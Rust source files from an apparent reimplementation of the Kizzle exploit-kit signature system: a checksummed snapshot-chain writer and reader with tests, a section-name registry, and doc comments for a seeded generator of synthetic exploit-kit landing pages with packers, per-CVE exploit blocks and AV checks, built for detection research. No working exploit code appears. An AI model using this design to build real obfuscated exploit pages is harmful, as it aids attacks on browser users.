//! The `MANIFEST` sidecar records the chain order (`chain = base delta-1
//! …`) and the per-section fingerprints the next save diffs against.
//!
//! ## Degradation ladder
//!
//! [`ChainedSnapshot::open`] extends the PR 3 fallback ladder one rung up:
//! a delta that is missing, damaged in any byte (deltas must pass the
//! whole-file checksum), out of sequence, or bound to a different
//! predecessor **truncates the chain at that point** — the reader resumes
//! from the base plus the intact prefix, which is simply an older (still
//! self-consistent) state. A damaged base degrades per section exactly as
//! before, and an unreadable base is the caller's signal to start cold.
//! Nothing in this module panics on foreign bytes.
//!
//! Writing stays atomic end to end: the chain file first (`.tmp`, fsync,
//! rename), the manifest after — a crash between the two leaves the
//! previous manifest pointing at the previous, still-valid chain.

use crate::codec::{Decoder, Encoder};
use crate::container::{Snapshot, SnapshotBuilder};
use crate::manifest::Manifest;
use crate::{crc32, SectionSource, SnapshotError};
use std::path::{Path, PathBuf};

pub use crate::sections::{CHAIN_KEY, DELTA_META_SECTION, HEAD_CRC_KEY, SECTION_KEY_PREFIX};

/// Default manifest file name inside a chain directory.
pub const MANIFEST_FILE: &str = "MANIFEST";

/// What one [`ChainWriter::save`] call did.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ChainSave {
    /// File written this save, if any (`None` when nothing changed and no
    /// compaction was due).
    pub file: Option<String>,
    /// True when the save wrote (or rewrote) the full base file.
    pub wrote_base: bool,
    /// Number of payload sections in the written file.
    pub sections_written: usize,
    /// Bytes of the written file.
    pub bytes: usize,
    /// Files in the chain after this save, base first.
    pub chain: Vec<String>,
}

/// The trailer CRC of serialized container bytes (their last 4 bytes).
fn trailer_of(bytes: &[u8]) -> u32 {
    let tail: [u8; 4] = bytes[bytes.len() - 4..].try_into().expect("4 bytes");
    u32::from_le_bytes(tail)
}

/// A `crc/len` section fingerprint as recorded in the manifest.
fn fingerprint(payload: &[u8]) -> String {
    format!("{:#010x}/{}", crc32(payload), payload.len())
}

fn encode_delta_meta(seq: u64, prev_crc: u32) -> Vec<u8> {
    let mut enc = Encoder::new();
    enc.varint(seq);
    enc.u32(prev_crc);
    enc.into_bytes()
}

fn decode_delta_meta(payload: &[u8]) -> Result<(u64, u32), SnapshotError> {
    let mut dec = Decoder::new(payload);
    let seq = dec.varint()?;
    let prev_crc = dec.u32()?;
    dec.finish()?;
    Ok((seq, prev_crc))
}

/// A file name is chain-safe when it cannot escape the chain directory.
fn safe_file_name(name: &str) -> bool {
    !name.is_empty() && !name.contains(['/', '\\']) && name != "." && name != ".."
}

/// Writes a snapshot chain into a directory: full base, then deltas of
/// changed sections, with periodic compaction back to a fresh base.
///
/// The writer itself is stateless — each [`ChainWriter::save`] reads the
/// chain position back from the manifest, so restarted cron processes
/// continue the chain exactly where the previous process left it.
///
/// A chain directory hosts **one** chain: the `MANIFEST` records a single
/// `chain`/`head_crc`/`section.*` set, so two writers with different
/// prefixes in one directory would overwrite each other's record (the
/// loser degrades to its bare base file on the next open). Give each
/// chain its own directory.
#[derive(Debug, Clone)]
pub struct ChainWriter {
    dir: PathBuf,
    prefix: String,
}

impl ChainWriter {
    /// A writer for the chain `<dir>/<prefix>.snap` +
    /// `<dir>/<prefix>.delta-N.snap`, described by `<dir>/MANIFEST`.
    ///
    /// # Panics
    ///
    /// Panics if `prefix` is not a plain file-name stem.
    #[must_use]
    pub fn new(dir: &Path, prefix: &str) -> Self {
        assert!(safe_file_name(prefix), "chain prefix must be a plain name");
        ChainWriter {
            dir: dir.to_path_buf(),
            prefix: prefix.to_string(),
        }
    }

    /// Name of the base file.
    #[must_use]
    pub fn base_file(&self) -> String {
        format!("{}.snap", self.prefix)
    }

    fn delta_file(&self, seq: u64) -> String {
        format!("{}.delta-{seq}.snap", self.prefix)
    }

    /// Persist `sections` as the next link of the chain.
    ///
    /// Writes a **delta** of the sections whose fingerprint changed since
    /// the manifest's record, or a **full base** when there is no usable
    /// chain record yet, the recorded chain no longer verifies on disk (a
    /// broken delta must not be extended — readers could never walk past
    /// it, so everything appended after it would be dead on arrival), or
    /// the chain already carries `max_deltas` deltas (compaction: the
    /// base is rewritten and stale delta files removed). `max_deltas ==
    /// 0` therefore means "always write full snapshots". When nothing
    /// changed, no file is written at all.
    ///
    /// `decorate` runs on the manifest before it is written, with the
    /// pending [`ChainSave`] — callers add their descriptive keys (sizes,
    /// last day, …) there. The chain keys (`chain`, `section.*`) are
    /// managed by this method.
    pub fn save(
        &self,
        sections: Vec<(String, Vec<u8>)>,
        max_deltas: usize,
        decorate: impl FnOnce(&mut Manifest, &ChainSave),
    ) -> std::io::Result<ChainSave> {
        std::fs::create_dir_all(&self.dir)?;
        let manifest_path = self.dir.join(MANIFEST_FILE);
        let previous = Manifest::read(&manifest_path).ok();
        // Fingerprints of what we are about to write — the manifest record
        // for the *next* save's diff, and the basis of this save's.
        let fingerprints: Vec<(String, String)> = sections
            .iter()
            .map(|(name, payload)| (name.clone(), fingerprint(payload)))
            .collect();

        // The chain record we would extend: file list + head trailer CRC +
        // every section fingerprint, and the on-disk files must still
        // verify end to end. Any gap forces a fresh base.
        let record = previous.as_ref().and_then(|m| {
            let chain = parse_chain(m)?;
            if chain.first().map(String::as_str) != Some(self.base_file().as_str()) {
                return None;
            }
            let head_crc = parse_crc(m.get(HEAD_CRC_KEY)?)?;
            let old_fingerprints: Vec<(String, String)> = sections
                .iter()
                .map(|(name, _)| {
                    let key = format!("{SECTION_KEY_PREFIX}{name}");
                    m.get(&key).map(|v| (name.clone(), v.to_string()))
                })
                .collect::<Option<_>>()?;
            if !self.chain_extendable(&chain, head_crc) {
                return None;
            }
            Some((chain, head_crc, old_fingerprints))
        });

        let (mut chain, file, wrote_base, written_sections, bytes) = match record {
            Some((chain, head_crc, old_fingerprints)) if chain.len() <= max_deltas => {
                // Extend with a delta of the changed sections only.
                let changed: Vec<bool> = fingerprints
                    .iter()
                    .zip(&old_fingerprints)
                    .map(|((name, fp), (old_name, old_fp))| {
                        debug_assert_eq!(name, old_name);
                        fp != old_fp
                    })
                    .collect();
                let changed_count = changed.iter().filter(|&&c| c).count();
                if changed_count == 0 {
                    let save = ChainSave {
                        file: None,
                        wrote_base: false,
                        sections_written: 0,
                        bytes: 0,
                        chain: chain.clone(),
                    };
                    self.write_manifest(
                        &manifest_path,
                        &chain,
                        None,
                        &fingerprints,
                        &save,
                        decorate,
                    )?;
                    return Ok(save);
                }
                let seq = chain.len() as u64; // base is seq 0
                let mut builder = SnapshotBuilder::new();
                builder.section(DELTA_META_SECTION, encode_delta_meta(seq, head_crc));
                for ((name, payload), include) in sections.into_iter().zip(changed) {
                    if include {
                        builder.section(&name, payload);
                    }
                }
                let bytes = builder.to_bytes();
                let file = self.delta_file(seq);
                crate::container::write_atomic(&self.dir.join(&file), &bytes)?;
                (chain, file, false, changed_count, bytes)
            }
            _ => {
                // Fresh base: full snapshot, chain restarts at length 1.
                let section_count = sections.len();
                let mut builder = SnapshotBuilder::new();
                for (name, payload) in sections {
                    builder.section(&name, payload);
                }
                let bytes = builder.to_bytes();
                let file = self.base_file();
                crate::container::write_atomic(&self.dir.join(&file), &bytes)?;
                // Stale deltas (from the compacted-away chain) are dead
                // weight at best and a wrong-chain hazard at worst; their
                // removal is best-effort, because the delta-meta binding
                // already refuses them at read time. Only files of *this*
                // writer's prefix are touched — a manifest naming foreign
                // files (another chain's record, or a tampered one) must
                // never let this save delete data it does not own.
                let own_delta = format!("{}.delta-", self.prefix);
                if let Some(old_chain) = previous.as_ref().and_then(parse_chain) {
                    for stale in old_chain.iter().skip(1) {
                        if safe_file_name(stale) && *stale != file && stale.starts_with(&own_delta)
                        {
                            std::fs::remove_file(self.dir.join(stale)).ok();
                        }
                    }
                }
                (Vec::new(), file, true, section_count, bytes)
            }
        };
        let head_crc = trailer_of(&bytes);
        if wrote_base {
            chain = vec![file.clone()];
        } else {
            chain.push(file.clone());
        }
        let save = ChainSave {
            file: Some(file),
            wrote_base,
            sections_written: written_sections,
            bytes: bytes.len(),
            chain: chain.clone(),
        };
        self.write_manifest(
            &manifest_path,
            &chain,
            Some(head_crc),
            &fingerprints,
            &save,
            decorate,
        )?;
        Ok(save)
    }

    /// True when the recorded chain still verifies on disk end to end:
    /// every delta present, pristine, in sequence and bound to its
    /// predecessor, with the last trailer matching the recorded
    /// `head_crc`. Extending a chain a reader would truncate earlier
    /// appends unreachable state — days of "successful" saves silently
    /// lost — so an unverifiable chain is compacted instead. Cost per
    /// save: 4 bytes of the base plus the delta files, which compaction
    /// keeps small by design.
    fn chain_extendable(&self, chain: &[String], head_crc: u32) -> bool {
        let Some(mut prev_crc) = read_trailer(&self.dir.join(&chain[0])) else {
            return false;
        };
        for (position, file) in chain.iter().enumerate().skip(1) {
            let Ok(snapshot) = Snapshot::read(&self.dir.join(file)) else {
                return false;
            };
            if !snapshot.is_complete() {
                return false;
            }
            let meta = snapshot
                .section(DELTA_META_SECTION)
                .and_then(decode_delta_meta);
            let Ok((seq, bound_crc)) = meta else {
                return false;
            };
            if seq != position as u64 || bound_crc != prev_crc {
                return false;
            }
            let Some(trailer) = snapshot.trailer_crc() else {
                return false;
            };
            prev_crc = trailer;
        }
        prev_crc == head_crc
    }

    /// Write the manifest: chain keys first, caller decoration after.
    /// `head_crc == None` keeps the previously recorded value (no file was
    /// written this save).
    fn write_manifest(
        &self,
        path: &Path,
        chain: &[String],
        head_crc: Option<u32>,
        fingerprints: &[(String, String)],
        save: &ChainSave,
        decorate: impl FnOnce(&mut Manifest, &ChainSave),
    ) -> std::io::Result<()> {
        let mut manifest = Manifest::new();
        manifest.set(CHAIN_KEY, chain.join(" "));
        let head_crc = head_crc.or_else(|| {
            Manifest::read(path)
                .ok()
                .and_then(|m| parse_crc(m.get(HEAD_CRC_KEY)?))
        });
        // A chain record without a head CRC cannot be extended; recording
        // 0 would be worse (a delta bound to a wrong predecessor), so the
        // key is simply dropped and the next save writes a fresh base.
        if let Some(crc) = head_crc {
            manifest.set(HEAD_CRC_KEY, format!("{crc:#010x}"));
        }
        for (name, fp) in fingerprints {
            manifest.set(&format!("{SECTION_KEY_PREFIX}{name}"), fp);
        }
        decorate(&mut manifest, save);
        manifest.write_atomic(path)
    }
}

/// The stored trailer CRC of a container file, read without loading the
/// payload (the last 4 bytes).
fn read_trailer(path: &Path) -> Option<u32> {
    use std::io::{Read, Seek, SeekFrom};
    let mut file = std::fs::File::open(path).ok()?;
    if file.metadata().ok()?.len() < 4 {
        return None;
    }
    file.seek(SeekFrom::End(-4)).ok()?;
    let mut buf = [0u8; 4];
    file.read_exact(&mut buf).ok()?;
    Some(u32::from_le_bytes(buf))
}

fn parse_chain(manifest: &Manifest) -> Option<Vec<String>> {
    let value = manifest.get(CHAIN_KEY)?;
    let files: Vec<String> = value.split_whitespace().map(str::to_string).collect();
    if files.is_empty() || !files.iter().all(|f| safe_file_name(f)) {
        return None;
    }
    Some(files)
}

fn parse_crc(value: &str) -> Option<u32> {
    u32::from_str_radix(value.trim_start_matches("0x"), 16).ok()
}

/// The latest-wins overlay of a loaded base→delta chain.
///
/// Sections resolve from the newest layer that declares them; because
/// deltas are only accepted fully intact, a checksum failure can only
/// surface from the base layer — exactly the per-section degradation the
/// PR 3 loaders already handle.
#[derive(Debug)]
pub struct ChainedSnapshot {
    /// Base first, deltas in applied order.
    layers: Vec<Snapshot>,
    /// Files actually loaded, parallel to `layers`.
    files: Vec<String>,
    /// Human-readable reasons for every chain truncation taken.
    notes: Vec<String>,
}

impl ChainedSnapshot {
    /// Load the chain recorded in `<dir>/MANIFEST` for `prefix`.
    ///
    /// Returns `Err` only when no base state is readable at all (the
    /// caller's cold-start signal). A missing or unusable manifest falls
    /// back to the bare base file; broken deltas truncate the chain with
    /// a note.
    pub fn open(dir: &Path, prefix: &str) -> Result<Self, SnapshotError> {
        let mut notes = Vec::new();
        let base_file = format!("{prefix}.snap");
        let chain = match Manifest::read(&dir.join(MANIFEST_FILE)) {
            Ok(manifest) => match parse_chain(&manifest) {
                Some(chain) if chain[0] == base_file => chain,
                Some(_) => {
                    notes.push(
                        "manifest chain names a different base, resuming base file only"
                            .to_string(),
                    );
                    vec![base_file]
                }
                None => vec![base_file],
            },
            Err(err) => {
                notes.push(format!(
                    "manifest unreadable ({err}), resuming base file only"
                ));
                vec![base_file]
            }
        };

        // The base must parse (possibly damaged); deltas must be pristine.
        let base = Snapshot::read(&dir.join(&chain[0]))?;
        let mut prev_crc = base.trailer_crc();
        let mut layers = vec![base];
        let mut files = vec![chain[0].clone()];
        for (position, file) in chain.iter().enumerate().skip(1) {
            let truncate = |what: String, notes: &mut Vec<String>| {
                notes.push(format!(
                    "delta chain broken at {file} ({what}); resuming the {} intact file(s) before it",
                    position
                ));
            };
            let snapshot = match Snapshot::read(&dir.join(file)) {
                Ok(snapshot) => snapshot,
                Err(err) => {
                    truncate(err.to_string(), &mut notes);
                    break;
                }
            };
            if !snapshot.is_complete() {
                truncate("file damaged".to_string(), &mut notes);
                break;
            }
            let meta = snapshot
                .section(DELTA_META_SECTION)
                .and_then(decode_delta_meta);
            match (meta, prev_crc) {
                (Ok((seq, bound_crc)), Some(prev))
                    if seq == position as u64 && bound_crc == prev => {}
                (Ok(_), _) => {
                    truncate("sequence or predecessor mismatch".to_string(), &mut notes);
                    break;
                }
                (Err(err), _) => {
                    truncate(format!("delta meta unreadable: {err}"), &mut notes);
                    break;
                }
            }
            prev_crc = snapshot.trailer_crc();
            layers.push(snapshot);
            files.push(file.clone());
        }
        Ok(ChainedSnapshot {
            layers,
            files,
            notes,
        })
    }

    /// Wrap a single parsed snapshot as a one-layer chain.
    #[must_use]
    pub fn single(snapshot: Snapshot) -> Self {
        ChainedSnapshot {
            layers: vec![snapshot],
            files: Vec::new(),
            notes: Vec::new(),
        }
    }

    /// Files loaded, base first — shorter than the manifest's chain when
    /// a broken delta truncated it.
    #[must_use]
    pub fn files(&self) -> &[String] {
        &self.files
    }

    /// Why the chain was truncated, if it was.
    #[must_use]
    pub fn notes(&self) -> &[String] {
        &self.notes
    }

    /// Number of layers actually overlaid (base + intact deltas).
    #[must_use]
    pub fn layer_count(&self) -> usize {
        self.layers.len()
    }
}

impl SectionSource for ChainedSnapshot {
    /// Latest-wins: the newest layer declaring the section answers for it
    /// — including with a checksum error, which only the base can produce
    /// (deltas are rejected wholesale unless pristine).
    fn section(&self, name: &str) -> Result<&[u8], SnapshotError> {
        for layer in self.layers.iter().rev() {
            if layer.has_section(name) {
                return layer.section(name);
            }
        }
        Err(SnapshotError::SectionMissing {
            section: name.to_string(),
        })
    }

    /// The format version of the layer that wins the section — per
    /// section, because an upgraded deployment chains v2 deltas onto a v1
    /// base until compaction rewrites the base.
    fn section_version(&self, name: &str) -> u32 {
        for layer in self.layers.iter().rev() {
            if layer.has_section(name) {
                return layer.version();
            }
        }
        crate::FORMAT_VERSION
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn temp_dir(name: &str) -> PathBuf {
        let dir =
            std::env::temp_dir().join(format!("kizzle-chain-test-{}-{name}", std::process::id()));
        std::fs::remove_dir_all(&dir).ok();
        std::fs::create_dir_all(&dir).unwrap();
        dir
    }

    fn sections(a: &[u8], b: &[u8]) -> Vec<(String, Vec<u8>)> {
        vec![("alpha".into(), a.to_vec()), ("beta".into(), b.to_vec())]
    }

    #[test]
    fn first_save_is_a_base_then_deltas_only_carry_changes() {
        let dir = temp_dir("basics");
        let writer = ChainWriter::new(&dir, "state");

        let save = writer.save(sections(b"a1", b"b1"), 4, |_, _| {}).unwrap();
        assert!(save.wrote_base);
        assert_eq!(save.sections_written, 2);
        assert_eq!(save.chain, vec!["state.snap".to_string()]);

        // Only beta changes: one payload section in the delta.
        let save = writer.save(sections(b"a1", b"b2"), 4, |_, _| {}).unwrap();
        assert!(!save.wrote_base);
        assert_eq!(save.sections_written, 1);
        assert_eq!(save.file.as_deref(), Some("state.delta-1.snap"));

        // Nothing changes: no file at all.
        let save = writer.save(sections(b"a1", b"b2"), 4, |_, _| {}).unwrap();
        assert_eq!(save.file, None);
        assert_eq!(save.chain.len(), 2);

        let chained = ChainedSnapshot::open(&dir, "state").unwrap();
        assert_eq!(chained.layer_count(), 2);
        assert_eq!(chained.section("alpha").unwrap(), b"a1");
        assert_eq!(chained.section("beta").unwrap(), b"b2");
        assert!(chained.notes().is_empty());
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn compaction_rewrites_the_base_and_removes_stale_deltas() {
        let dir = temp_dir("compaction");
        let writer = ChainWriter::new(&dir, "state");
        writer.save(sections(b"a1", b"b1"), 2, |_, _| {}).unwrap();
        writer.save(sections(b"a1", b"b2"), 2, |_, _| {}).unwrap();
        let save = writer.save(sections(b"a1", b"b3"), 2, |_, _| {}).unwrap();
        assert_eq!(save.file.as_deref(), Some("state.delta-2.snap"));
        // Chain is now base + 2 deltas == max: the next save compacts.
        let save = writer.save(sections(b"a2", b"b3"), 2, |_, _| {}).unwrap();
        assert!(save.wrote_base);
        assert_eq!(save.chain, vec!["state.snap".to_string()]);
        assert!(!dir.join("state.delta-1.snap").exists());
        assert!(!dir.join("state.delta-2.snap").exists());

        let chained = ChainedSnapshot::open(&dir, "state").unwrap();
        assert_eq!(chained.layer_count(), 1);
        assert_eq!(chained.section("alpha").unwrap(), b"a2");
        assert_eq!(chained.section("beta").unwrap(), b"b3");
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn max_deltas_zero_always_writes_full_snapshots() {
        let dir = temp_dir("full-only");
        let writer = ChainWriter::new(&dir, "state");
        for payload in [b"b1", b"b2"] {
            let save = writer.save(sections(b"a", payload), 0, |_, _| {}).unwrap();
            assert!(save.wrote_base);
            assert_eq!(save.chain.len(), 1);
        }
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn broken_delta_truncates_the_chain_to_the_base() {
        let dir = temp_dir("broken-delta");
        let writer = ChainWriter::new(&dir, "state");
        writer.save(sections(b"a1", b"b1"), 4, |_, _| {}).unwrap();
        writer.save(sections(b"a1", b"b2"), 4, |_, _| {}).unwrap();
        writer.save(sections(b"a2", b"b2"), 4, |_, _| {}).unwrap();

        // Flip one byte of delta 1: it and everything after must drop.
        let path = dir.join("state.delta-1.snap");
        let mut bytes = std::fs::read(&path).unwrap();
        let mid = bytes.len() / 2;
        bytes[mid] ^= 0x01;
        std::fs::write(&path, &bytes).unwrap();

        let chained = ChainedSnapshot::open(&dir, "state").unwrap();
        assert_eq!(chained.layer_count(), 1, "notes: {:?}", chained.notes());
        assert_eq!(chained.section("alpha").unwrap(), b"a1");
        assert_eq!(chained.section("beta").unwrap(), b"b1");
        assert_eq!(chained.notes().len(), 1);
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn save_after_a_broken_delta_compacts_instead_of_extending() {
        let dir = temp_dir("extend-broken");
        let writer = ChainWriter::new(&dir, "state");
        writer.save(sections(b"a1", b"b1"), 8, |_, _| {}).unwrap();
        writer.save(sections(b"a1", b"b2"), 8, |_, _| {}).unwrap();

        // Vandalize the delta on disk; the manifest still records it, but
        // extending would append state no reader could ever reach.
        let path = dir.join("state.delta-1.snap");
        let mut bytes = std::fs::read(&path).unwrap();
        let mid = bytes.len() / 2;
        bytes[mid] ^= 0x01;
        std::fs::write(&path, &bytes).unwrap();

        let save = writer.save(sections(b"a2", b"b3"), 8, |_, _| {}).unwrap();
        assert!(save.wrote_base, "broken chain must compact: {save:?}");
        assert_eq!(save.chain, vec!["state.snap".to_string()]);
        assert!(!dir.join("state.delta-1.snap").exists());

        let chained = ChainedSnapshot::open(&dir, "state").unwrap();
        assert_eq!(chained.layer_count(), 1);
        assert_eq!(chained.section("alpha").unwrap(), b"a2");
        assert_eq!(chained.section("beta").unwrap(), b"b3");
        assert!(chained.notes().is_empty());
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn save_after_a_deleted_delta_compacts_instead_of_extending() {
        let dir = temp_dir("extend-deleted");
        let writer = ChainWriter::new(&dir, "state");
        writer.save(sections(b"a1", b"b1"), 8, |_, _| {}).unwrap();
        writer.save(sections(b"a1", b"b2"), 8, |_, _| {}).unwrap();
        std::fs::remove_file(dir.join("state.delta-1.snap")).unwrap();

        let save = writer.save(sections(b"a1", b"b3"), 8, |_, _| {}).unwrap();
        assert!(save.wrote_base, "gapped chain must compact: {save:?}");
        let chained = ChainedSnapshot::open(&dir, "state").unwrap();
        assert_eq!(chained.section("beta").unwrap(), b"b3");
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn delta_bound_to_a_different_base_is_refused() {
        let dir = temp_dir("rebind");
        let writer = ChainWriter::new(&dir, "state");
        writer.save(sections(b"a1", b"b1"), 4, |_, _| {}).unwrap();
        writer.save(sections(b"a1", b"b2"), 4, |_, _| {}).unwrap();
        // Rewrite the base out-of-band (as a crashed compaction would):
        // the surviving delta no longer matches its predecessor CRC.
        let mut builder = SnapshotBuilder::new();
        builder.section("alpha", b"aX".to_vec());
        builder.section("beta", b"bX".to_vec());
        builder.write_atomic(&dir.join("state.snap")).unwrap();

        let chained = ChainedSnapshot::open(&dir, "state").unwrap();
        assert_eq!(chained.layer_count(), 1);
        assert_eq!(chained.section("beta").unwrap(), b"bX");
        assert!(
            chained.notes()[0].contains("predecessor"),
            "notes: {:?}",
            chained.notes()
        );
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn missing_manifest_resumes_the_bare_base() {
        let dir = temp_dir("no-manifest");
        let writer = ChainWriter::new(&dir, "state");
        writer.save(sections(b"a1", b"b1"), 4, |_, _| {}).unwrap();
        writer.save(sections(b"a1", b"b2"), 4, |_, _| {}).unwrap();
        std::fs::remove_file(dir.join(MANIFEST_FILE)).unwrap();

        let chained = ChainedSnapshot::open(&dir, "state").unwrap();
        assert_eq!(chained.layer_count(), 1);
        assert_eq!(chained.section("beta").unwrap(), b"b1");
        assert_eq!(chained.notes().len(), 1);

        // And the next save starts a fresh base rather than guessing.
        let save = writer.save(sections(b"a9", b"b9"), 4, |_, _| {}).unwrap();
        assert!(save.wrote_base);
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn missing_base_is_a_cold_start_error() {
        let dir = temp_dir("no-base");
        assert!(ChainedSnapshot::open(&dir, "state").is_err());
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn decorate_keys_land_in_the_manifest() {
        let dir = temp_dir("decorate");
        let writer = ChainWriter::new(&dir, "state");
        writer
            .save(sections(b"a", b"b"), 4, |m, _| m.set("last_day", "8/5/14"))
            .unwrap();
        let manifest = Manifest::read(&dir.join(MANIFEST_FILE)).unwrap();
        assert_eq!(manifest.get("last_day"), Some("8/5/14"));
        assert_eq!(manifest.get(CHAIN_KEY), Some("state.snap"));
        assert!(manifest.get("section.alpha").is_some());
        std::fs::remove_dir_all(&dir).ok();
    }
}
