//! The single registry of snapshot section names and manifest keys.
//!
//! Every named slot in the on-disk format is declared here, once. Domain
//! crates (`kizzle`, `kizzle-cluster`) re-export the constants they own
//! so call sites read naturally, but the *values* live in this module
//! alone: a writer and a reader that disagree on a section name silently
//! drop state on the floor, so the `section-registry` lint
//! (`kizzle-analyze`) forbids these string values as literals anywhere
//! else in library or binary code.
//!
//! The module carries names only — no domain types — so the snapshot
//! crate stays format-level. Adding a section means adding a constant
//! here; the lint picks the new value up automatically by reading this
//! file.

/// Section holding fingerprint, day counter and signature counters.
pub const META_SECTION: &str = "meta";
/// Section holding the cumulative signature set.
pub const SIGNATURES_SECTION: &str = "signatures";
/// Section holding the sealed scan pipeline (automaton + prefilters).
pub const SCAN_SECTION: &str = "scan-pipeline";
/// Section holding the reference corpus.
pub const REFERENCE_SECTION: &str = "reference";
/// Section holding the retained day views (for window clustering).
pub const WINDOW_SECTION: &str = "window-views";
/// Section holding the cluster corpus store (sample bytes + metadata).
pub const STORE_SECTION: &str = "corpus-store";
/// Section holding the neighbor index (caches, no sample bytes).
pub const INDEX_SECTION: &str = "neighbor-index";

/// Reserved section carried by every delta file: sequence number and the
/// predecessor's trailer CRC. The double underscore keeps it out of the
/// domain crates' namespace.
pub const DELTA_META_SECTION: &str = "__delta-meta";

/// Manifest key listing the chain files in order, space-separated.
pub const CHAIN_KEY: &str = "chain";
/// Manifest key recording the chain head's trailer CRC.
pub const HEAD_CRC_KEY: &str = "head_crc";
/// Manifest key prefix for per-section content fingerprints.
pub const SECTION_KEY_PREFIX: &str = "section.";
