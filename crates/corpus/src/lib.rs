//! # kizzle-corpus — synthetic grayware corpus with evolving exploit kits
//!
//! The Kizzle paper evaluates on a month of Internet Explorer telemetry
//! (80,000–500,000 HTML samples per day, August 2014) containing landing
//! pages of the **Nuclear**, **Angler**, **RIG** and **Sweet Orange**
//! exploit kits. That data stream is proprietary and the kits themselves are
//! long dead, so this crate provides the closest synthetic equivalent: a
//! deterministic, seeded generator of daily "grayware" batches whose
//! statistical structure matches what the paper describes and measures:
//!
//! * **Four kit families** ([`KitFamily`]) with the CVE inventory of the
//!   paper's Fig. 2, an inner payload (plug-in detection, AV-presence
//!   checks, one exploit block per CVE, an eval trigger) and a
//!   family-specific packer modeled on the paper's Fig. 4 (delimiter-joined
//!   char codes for RIG, key-substitution with delimiter-spliced strings for
//!   Nuclear, hex chunking for Angler, arithmetic integer obfuscation for
//!   Sweet Orange).
//! * **An evolution engine** ([`evolution`]) that reproduces the paper's
//!   Fig. 5 timeline: frequent superficial packer mutations (the `eval`
//!   obfuscation and delimiter changes of Nuclear), infrequent payload
//!   appends (new CVEs, added AV detection), and cross-kit code borrowing
//!   (RIG's AV check appearing in Nuclear in August). The Angler change of
//!   August 13 that opened the AV false-negative window of Fig. 6 is
//!   modeled explicitly.
//! * **Benign generators** ([`benign`]) for the code that dominates real
//!   grayware: script-library boilerplate, `PluginDetect`-style probing code
//!   (the paper's Fig. 15 false positive), analytics/ad snippets and inline
//!   handlers, all with enough near-duplication to form clusters of their
//!   own.
//! * **A daily stream** ([`stream::GraywareStream`]) that mixes the above
//!   into per-day batches with ground-truth labels, scaled down from the
//!   paper's volumes by a configurable factor.
//!
//! Everything is driven by [`rand_chacha`] seeded RNGs: the same seed
//! reproduces the same month of grayware byte-for-byte, which is what makes
//! the experiment harness reproducible.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod benign;
pub mod date;
pub mod evolution;
pub mod family;
pub mod ident;
pub mod kits;
pub mod packer;
pub mod payload;
pub mod sample;
pub mod stream;

pub use date::SimDate;
pub use evolution::{ChangeKind, EvolutionEvent, KitState};
pub use family::{Component, Cve, KitFamily};
pub use kits::KitModel;
pub use sample::{GroundTruth, Sample, SampleId};
pub use stream::{GraywareStream, StreamConfig};

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;
    use rand_chacha::ChaCha8Rng;

    #[test]
    fn end_to_end_sample_generation_is_deterministic() {
        let model = KitModel::new(KitFamily::Nuclear);
        let date = SimDate::new(2014, 8, 13);
        let mut rng1 = ChaCha8Rng::seed_from_u64(1234);
        let mut rng2 = ChaCha8Rng::seed_from_u64(1234);
        let a = model.generate_sample(date, &mut rng1);
        let b = model.generate_sample(date, &mut rng2);
        assert_eq!(a, b);
    }

    #[test]
    fn all_families_generate_nonempty_html() {
        let date = SimDate::new(2014, 8, 5);
        let mut rng = ChaCha8Rng::seed_from_u64(7);
        for family in KitFamily::ALL {
            let html = KitModel::new(family).generate_sample(date, &mut rng);
            assert!(html.contains("<script"), "{family}: no script tag");
            assert!(html.len() > 500, "{family}: suspiciously small sample");
        }
    }
}
