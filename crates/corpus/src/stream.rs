//! The daily grayware stream.
//!
//! The paper's telemetry produced 80,000–500,000 samples per day; the
//! stream generator reproduces that mixture at a configurable scale:
//! mostly-benign traffic with a minority of exploit-kit landing pages whose
//! family mix mirrors the relative prevalence of Fig. 14 (Angler by far the
//! most common, RIG rare enough to be a clustering challenge).

use crate::benign::{generate_benign, BenignKind};
use crate::date::SimDate;
use crate::family::KitFamily;
use crate::kits::KitModel;
use crate::sample::{GroundTruth, Sample, SampleId};
use rand::Rng;
use rand::SeedableRng;
use rand_chacha::ChaCha8Rng;
use serde::Serialize;

/// Configuration of the grayware stream.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct StreamConfig {
    /// Number of samples generated per day. The paper observed 80k–500k;
    /// the default here is scaled down by roughly three orders of magnitude
    /// so the full month runs on a laptop, with the mixture preserved.
    pub samples_per_day: usize,
    /// Fraction of the daily stream that is exploit-kit traffic. The
    /// telemetry trigger (pages loading ActiveX content) makes this much
    /// higher than on the open web.
    pub malicious_fraction: f64,
    /// Relative weight of each family within the malicious share. The
    /// paper's absolute counts (Fig. 14) are heavily skewed towards Angler;
    /// the default flattens that skew slightly so that even the rare
    /// families produce enough daily variants to exercise clustering at the
    /// reduced scale (documented in DESIGN.md).
    pub family_weights: Vec<(KitFamily, f64)>,
    /// Master seed; combined with the date so each day is independently
    /// reproducible.
    pub seed: u64,
}

impl StreamConfig {
    /// Validate and normalize the configuration.
    ///
    /// # Panics
    ///
    /// Panics if the malicious fraction is outside `[0, 1]`, weights are
    /// negative, or no family weight is positive while the malicious
    /// fraction is nonzero.
    #[must_use]
    pub fn validated(self) -> Self {
        assert!(
            (0.0..=1.0).contains(&self.malicious_fraction),
            "malicious_fraction must be within [0, 1]"
        );
        assert!(
            self.family_weights.iter().all(|(_, w)| *w >= 0.0),
            "family weights must be non-negative"
        );
        if self.malicious_fraction > 0.0 {
            assert!(
                self.family_weights.iter().any(|(_, w)| *w > 0.0),
                "at least one family weight must be positive"
            );
        }
        self
    }

    /// Small configuration for unit tests and doc examples.
    #[must_use]
    pub fn small(seed: u64) -> Self {
        StreamConfig {
            samples_per_day: 60,
            malicious_fraction: 0.25,
            family_weights: default_weights(),
            seed,
        }
        .validated()
    }
}

